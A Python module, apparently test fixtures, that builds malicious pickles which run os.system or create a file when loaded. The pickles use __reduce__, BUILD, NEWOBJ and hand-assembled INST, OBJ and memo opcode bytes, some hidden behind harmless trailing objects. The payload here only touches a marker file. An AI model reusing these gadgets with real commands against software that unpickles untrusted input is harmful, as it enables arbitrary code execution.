"""Pickles that make a file when they are loaded: by every step that can call something."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any, Self


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.file}",)


class BuiltBomb(Bomb):
    """Goes off in BUILD, by the state that it sets."""

    def __reduce__(self) -> tuple[Any, ...]:
        return Armed, (), str(self.file)


class Armed:
    def __setstate__(self, file: str) -> None:
        Path(file).touch()


class MadeBomb:
    """Goes off in NEWOBJ, by being made."""

    def __new__(cls, file: str) -> Self:
        Path(file).touch()
        return super().__new__(cls)


def bombs(file: Path) -> dict[str, bytes]:
    command, path = (pickle.dumps(text, 3)[2:-3] for text in (f"touch {file}", str(file)))
    system = b"\x80\x04cos\nsystem\n"
    made = {f"reduce {one}": pickle.dumps(Bomb(file), one) for one in range(6)}
    made |= {f"build {one}": pickle.dumps(BuiltBomb(file), one) for one in (3, 4, 5)}
    made["inst"] = b"\x80\x04(" + command + b"ios\nsystem\n."
    made["obj"] = b"\x80\x04(cos\nsystem\n" + command + b"o."
    made["newobj"] = f"\x80\x03c{__name__}\nMadeBomb\n".encode("latin-1") + path + b"\x85\x81."
    made["text left"] = system + command + b"\x85R0\x8c\x03Ada."
    made["date left"] = system + command + b"\x85R0cdatetime\ndate\nC\x04\x07\xe8\x02\x1d\x85R."
    made["in a tuple"] = system + command + b"\x85R\x85."
    made["by the memo"] = system + b"q\x00h\x00" + command + b"\x85R."
    return made
